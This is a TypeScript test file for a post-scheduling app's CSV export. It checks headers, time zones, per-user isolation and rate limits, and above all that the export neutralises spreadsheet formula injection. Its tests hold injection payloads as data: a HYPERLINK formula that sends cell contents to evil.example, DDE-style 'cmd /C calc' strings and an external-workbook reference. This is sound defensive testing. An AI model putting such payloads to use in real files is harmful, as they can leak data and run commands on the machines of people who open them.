import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import type { Actor } from '#app/domain/actor.ts';
import { testDatabase } from '#tests/database.ts';
import { makeUser } from '#tests/make/accounts.ts';
import { makeScheduledPost } from '#tests/make/posts.ts';
import { browserOf } from '#tests/make/sessions.ts';
import { startWeb } from '#tests/web.ts';

const { db, url: databaseUrl } = await testDatabase();
let origin: string;
before(async () => {
  origin = (await startWeb({ databaseUrl })).url;
});

const inDays = (days: number) => new Date(Date.now() + days * 86_400_000);

/** The cells of a CSV, as RFC 4180 reads them. */
function parse(csv: string): string[][] {
  assert.ok(csv.startsWith('\uFEFF'));
  const rows: string[][] = [[]];
  for (const [, quoted, bare, end] of csv.slice(1).matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? bare!);
    if (end === '\r\n') rows.push([]);
  }
  assert.deepEqual(rows.pop(), []);
  return rows;
}

async function download(actor: Actor) {
  const answer = await (await browserOf(db, actor, origin)).get('/app/posts.csv');
  assert.equal(answer.status, 200);
  assert.equal(answer.headers.get('Content-Type'), 'text/csv; charset=utf-8');
  assert.match(answer.headers.get('Content-Disposition')!, /^attachment; filename=".+\.csv"$/);
  assert.equal(answer.headers.get('Cache-Control'), 'no-store');
  const [head, ...rows] = parse(Buffer.from(await answer.arrayBuffer()).toString('utf8'));
  return rows.map((row) => {
    assert.equal(row.length, head!.length);
    return Object.fromEntries(head!.map((name, at) => [name, row[at]!]));
  });
}

test('the history is downloaded with all that is shown, in the zone of its owner', async () => {
  const actor = await makeUser(db);
  await db.updateTable('users').set({ timeZone: 'Asia/Kolkata' }).where('id', '=', actor.userId).execute();
  const content = 'Über "plans", one line,\nand another.';
  const id = await makeScheduledPost(db, actor, {
    content,
    dueAt: inDays(1),
    hashtags: ['Planning', 'Ziele'],
  });
  const postedAt = new Date('2026-11-20T12:42:00Z');
  await db
    .updateTable('posts')
    .set({ status: 'published', postedAt, networkUrn: 'urn:li:share:7501' })
    .where('id', '=', id)
    .execute();
  await db.insertInto('engagements').values({ postId: id, userId: actor.userId, likes: 12 }).execute();
  const [row, ...more] = await download(actor);
  assert.deepEqual(more, []);
  assert.equal(row!.Text, content);
  assert.equal(row!.Hashtags, '#Planning #Ziele');
  assert.equal(row!.Status, 'Published');
  assert.equal(row!['Published at'], '2026-11-20T18:12:00+05:30');
  assert.match(row!.Created!, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+05:30$/);
  assert.match(row!['Link on LinkedIn']!, /\/feed\/update\/urn:li:share:7501\/$/);
  assert.deepEqual([row!['Likes (typed in)'], row!['Shares (typed in)']], ['12', '']);
});

test('no cell is a formula for a spreadsheet', async () => {
  const actor = await makeUser(db);
  const texts = ['=1+1', '+1', '-1', '@sum', '＝1', '=a"b,c', '\tx', '\rx'];
  for (const content of texts)
    await makeScheduledPost(db, actor, { content, dueAt: inDays(1), hashtags: [] });
  const rows = await download(actor);
  assert.deepEqual(rows.map(({ Text }) => Text).sort(), texts.map((text) => `'${text}`).sort());
});

/** The cells as a spreadsheet reads them whose separator is ";": a quote counts at the start of a cell only. */
function readBySemicolon(csv: string): string[] {
  const cells = [];
  let rest = csv.slice(1);
  while (rest !== '') {
    const [whole, quoted = '', bare = ''] =
      /^(?:"((?:[^"]|"")*)(?:"|$))?([^;\r\n\t]*)(?:[;\t]|\r\n|[\r\n]|$)/.exec(rest)!;
    cells.push(quoted.replaceAll('""', '"') + bare);
    rest = rest.slice(whole.length);
  }
  return cells;
}

test('no piece of a text is a formula for a spreadsheet whose separator is a semicolon', async () => {
  const actor = await makeUser(db);
  const pieces = [
    '=1+1',
    '=HYPERLINK("https://evil.example/?"&A1)',
    '"=1+1',
    '""=1+1',
    '"=1+1"',
    '＝1+1',
    `@SUM(1+1)*cmd|' /C calc'!A0`,
    `+cmd|' /C calc'!A0`,
    `-cmd|' /C calc'!A0`,
    `- cmd|' /C calc'!A0`,
    '-SUM(A1:A9)',
    '"-SUM(A1:A9)',
    "+'https://evil.example/[book.xlsx]Sheet'!A1",
    '＋ＳＵＭ（A1）',
  ];
  const breaks = [';', '\n', '\r\n', '\r', '\t', ';;', '\n\n', '";', ';"";'];
  for (const piece of pieces) {
    const content = breaks.map((each) => `A line${each}${piece}`).join('\n');
    await makeScheduledPost(db, actor, { content: `${content};`, dueAt: inDays(1), hashtags: [] });
  }
  const csv = await (await (await browserOf(db, actor, origin)).get('/app/posts.csv')).text();
  const cells = readBySemicolon(`\uFEFF${csv.replace(/^\uFEFF/, '')}`);
  const formulas = cells.filter((text) => /^[=＝]|^[+\-@＋－＠].*[(|!（｜！]/.test(text));
  assert.deepEqual(formulas, []);
  assert.ok(cells.filter((text) => text.startsWith("'")).length >= pieces.length * breaks.length);
});

test('what people write in lines is downloaded as they wrote it', async () => {
  const actor = await makeUser(db);
  const content = [
    'What I learned:',
    '- a list item',
    '-another one; - and more',
    '+ a plus, @Ada said',
    '@Ada, thank you',
    '"- quoted"',
    'a = b; c = d',
    '\tindented',
  ].join('\n');
  await makeScheduledPost(db, actor, { content, dueAt: inDays(1), hashtags: [] });
  const [row] = await download(actor);
  assert.equal(row!.Text, content);
});

test('everything of this user is there and nothing of anybody else, page by page', async () => {
  const [actor, other] = [await makeUser(db), await makeUser(db)];
  await makeScheduledPost(db, other, { content: 'A secret.', dueAt: inDays(1) });
  const at = Date.now();
  const posts = Array.from({ length: 1_203 }, (_, index) => ({
    ...{ userId: actor.userId, content: `Number ${index}.` },
    createdAt: new Date(at - Math.floor(index / 7) * 1_000),
  }));
  await db.insertInto('posts').values(posts).execute();
  const rows = await download(actor);
  assert.equal(rows.length, 1_203);
  assert.equal(new Set(rows.map(({ Text }) => Text)).size, 1_203);
  assert.ok(!rows.some(({ Text }) => Text === 'A secret.'));
});

test('a person who downloads over and over is asked to wait', async () => {
  const browser = await browserOf(db, await makeUser(db), origin);
  for (let download = 0; download < 10; download += 1) {
    assert.equal((await browser.get('/app/posts.csv')).status, 200);
  }
  const answer = await browser.get('/app/posts.csv');
  assert.deepEqual([answer.status, answer.headers.get('Location')], [302, '/app/posts']);
  assert.match(await browser.read('/app/posts'), /Too many attempts\. Please wait/);
});

test('a visitor is led to sign in', async () => {
  const answer = await fetch(`${origin}/app/posts.csv`, { redirect: 'manual' });
  assert.deepEqual([answer.status, answer.headers.get('Location')], [302, '/login']);
});
